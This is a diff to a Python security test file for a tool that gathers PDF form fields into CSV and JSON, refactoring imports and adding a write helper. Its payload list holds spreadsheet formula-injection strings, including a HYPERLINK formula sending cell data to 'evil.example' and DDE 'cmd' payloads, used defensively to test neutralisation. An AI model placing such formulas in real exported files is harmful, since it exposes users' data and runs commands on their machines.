@@ -8,7 +8,8 @@ import json
 
 import pytest
 
-from generator.collect import FIELD_PREFIX, FIXED_COLUMNS, collect, csv_text, field_column, neutralise, write_rows
+from generator.collect import FIELD_PREFIX, FIXED_COLUMNS, collect, field_column
+from generator.collect_output import csv_text, neutralise, write_results
 from tests.security.collect_pdfs import form_pdf
 
 PAYLOADS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
@@ -19,6 +20,12 @@ DANGEROUS_START = tuple("=+-@|%\t\r\n\uff1d")
 
 def parse(text: str) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def written(rows, out) -> str:
+    """The text of the one file `--out out` writes (a CSV's byte-order mark left out)."""
+    assert write_results(rows, out) == [out]
+    return out.read_bytes().decode("utf-8-sig")
 
 
 def formula_like(cell: str) -> bool:
@@ -42,7 +49,7 @@ def test_would_be_formulas_in_values_names_files_and_metadata_are_neutralised(tm
         assert row[header.index("program")] == row[header.index("form")] == row[header.index("version")] == "'" + payload
         assert "'" + payload in header
         # JSON is data, not a spreadsheet: it keeps every value exactly
-        assert json.loads(write_rows(rows, tmp_path / f"{n}.json"))[0]["agreement.goals"] == payload
+        assert json.loads(written(rows, tmp_path / f"{n}.json"))[0]["agreement.goals"] == payload
 
 
 def test_the_file_name_is_neutralised_too(tmp_path):
@@ -60,10 +67,10 @@ def test_a_bare_cr_is_quoted_and_does_not_start_a_row(tmp_path):
     value = "first line\rINJECTED,ROW\r\nthird\nfourth"
     form_pdf(tmp_path / "a.pdf", {"agreement.goals": value, "agreement.other": "x"})
     rows, _ = collect([tmp_path])
-    table = parse(write_rows(rows, tmp_path / "out.csv"))
+    table = parse(written(rows, tmp_path / "out.csv"))
     assert len(table) == 2  # the header and the one row
     assert table[1][table[0].index("agreement.goals")] == value
-    assert parse((tmp_path / "out.csv").read_bytes().decode()) == table  # the file holds the same bytes
+    assert parse(csv_text(rows)) == table  # standard output holds the same table
 
 
 def test_fields_cannot_forge_the_identity_columns(tmp_path):
@@ -131,5 +138,5 @@ def test_a_form_with_many_fields_is_collected_into_csv(tmp_path):
     form_pdf(tmp_path / "many.pdf", {f"journal.row{i:05d}.notes": f"note {i}" for i in range(n)})
     rows, skipped = collect([tmp_path])
     assert skipped == []
-    header, values = parse(write_rows(rows, tmp_path / "out.csv"))
+    header, values = parse(written(rows, tmp_path / "out.csv"))
     assert len(header) == len(values) == 4 + n
